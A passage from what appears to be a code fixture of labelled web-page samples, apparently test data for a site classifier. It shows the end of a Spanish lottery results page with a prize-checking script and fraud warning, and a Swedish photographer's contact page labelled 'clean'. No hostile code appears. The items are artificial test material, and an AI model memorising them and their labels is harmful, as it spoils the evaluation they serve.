 <h1>Sorteo Extraordinario de San Valentín</h1><div class="f">Celebrado el sábado 14 de febrero de 2026 en Santander · Resultados oficiales</div>
 <div class="prem"><div><small>Primer premio · 1.300.000 € a la serie</small><b>48.213</b></div><div><small>Segundo premio · 250.000 € a la serie</small><b>07.962</b></div><div><small>Reintegros</small><b>3 · 8</b></div></div>
 <div class="comp">
  <h2 style="margin-top:0">Comprueba tu décimo</h2>
  <input id="num" maxlength="5" inputmode="numeric" placeholder="00000"><button id="ok">Comprobar</button>
  <div id="res"></div>
 </div>
 <div class="aviso"><b>¡Cuidado con los fraudes!</b> Loterías del Cantábrico nunca te comunicará un premio por SMS, WhatsApp o correo electrónico ni te pedirá pagar "gastos de gestión" o tus datos bancarios para cobrarlo. Los premios se cobran en cualquier punto de venta oficial o en entidades bancarias colaboradoras presentando el décimo original.</div>
 <div class="jr"><span>+18</span>Juega con responsabilidad. Los menores de edad no pueden participar en juegos de azar. Información y ayuda: jugarbien.es · 900 200 225</div>
</div>
<div class="pie">Loterías del Cantábrico S.A. – Operador autorizado por la Dirección General de Ordenación del Juego · Aviso legal · Privacidad · Cookies</div>
<script>
var P={'48213':'¡Enhorabuena! Tu décimo está premiado con 130.000 € (primer premio). Cóbralo en una entidad bancaria colaboradora presentando el décimo original.','07962':'¡Enhorabuena! Tu décimo está premiado con 25.000 € (segundo premio).'};
document.getElementById('ok').onclick=function(){var n=document.getElementById('num').value.padStart(5,'0'),r=P[n];
 if(!r){var last=n.slice(-1);r=(last==='3'||last==='8')?'Tu décimo tiene reintegro: 5 €.':'Lo sentimos, tu número '+n+' no ha resultado premiado.'}
 document.getElementById('res').textContent=r};
</script>
</body>
</html>
`,
  },
  {
    id: "f-clean-netlify-portfolio-kontakt-sv",
    label: "clean",
    kind: "free-hosting-personal-site",
    url: "https://mara-lindqvist-foto.netlify.app/kontakt",
    body: `<!DOCTYPE html>
<html lang="sv">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Kontakt – Mara Lindqvist Fotografi</title>
<meta name="description" content="Bröllops- och porträttfotograf i Göteborg.">
<style>
body{margin:0;font-family:"Karla",Arial,sans-serif;background:#faf8f5;color:#2b2b2b}
header{display:flex;justify-content:space-between;align-items:center;padding:24px 48px}
header b{font-family:"Playfair Display",Georgia,serif;font-size:22px;font-weight:400;letter-spacing:2px}
header a{color:#2b2b2b;margin-left:22px;text-decoration:none;font-size:14px;text-transform:uppercase;letter-spacing:1px}
.w{max-width:980px;margin:30px auto;display:grid;grid-template-columns:1fr 1fr;gap:50px;padding:0 24px}
.bild{aspect-ratio:4/5;background:linear-gradient(160deg,#c9b8a6,#8a7968)}
h1{font-family:"Playfair Display",Georgia,serif;font-weight:400;font-size:40px;margin:0 0 16px}
label{display:block;font-size:13px;text-transform:uppercase;letter-spacing:1px;margin:16px 0 6px}
input,textarea,select{width:100%;box-sizing:border-box;padding:10px;border:0;border-bottom:1px solid #999;background:transparent;font:inherit;font-size:16px}
button{margin-top:24px;background:#2b2b2b;color:#fff;border:0;padding:13px 34px;font-size:14px;letter-spacing:2px;text-transform:uppercase;cursor:pointer}
footer{text-align:center;font-size:12px;color:#888;padding:40px}
</style>
</head>
<body>
<header><b>MARA LINDQVIST</b><nav><a href="/">Portfolio</a><a href="/brollop">Bröllop</a><a href="/priser">Priser</a><a href="/kontakt">Kontakt</a></nav></header>
<div class="w">
 <div class="bild"></div>
 <div>
  <h1>Hör av dig!</h1>
  <p>Berätta om ert bröllop eller er porträttfotografering så återkommer jag inom två dagar med tillgänglighet och offert.</p>
  <form name="kontakt" method="POST" data-netlify="true" netlify-honeypot="bot-field" action="/tack">
   <input type="hidden" name="form-name" value="kontakt">
   <p hidden><label>Fyll inte i detta: <input name="bot-field"></label></p>
   <label>Namn</label><input name="namn" required>
   <label>E-post</label><input name="epost" type="email" required>
   <label>Typ av fotografering</label><select name="typ"><option>Bröllop</option><option>Porträtt</option><option>Familj</option><option>Företag</option></select>
   <label>Datum</label><input name="datum" type="date">
   <label>Meddelande</label><textarea name="meddelande" rows="4"></textarea>
   <button>Skicka</button>
  </form>
 </div>
</div>
<footer>© 2026 Mara Lindqvist Fotografi · Göteborg · Org.nr 960512-XXXX · Instagram @maralindqvist.foto</footer>
</body>
</html>
`,
    routes: {
      "mara-lindqvist-foto.netlify.app/tack": htmlRoute(`<!DOCTYPE html><html lang="sv"><head><meta charset="utf-8"><title>Tack! – Mara Lindqvist Fotografi</title></head><body style="font-family:Karla,Arial;text-align:center;padding:80px;background:#faf8f5"><h1 style="font-family:Georgia;font-weight:400">Tack för ditt meddelande!</h1><p>Jag återkommer inom två dagar. <a href="/">Tillbaka till portfolion</a></p></body></html>
`),
    },
  },
];
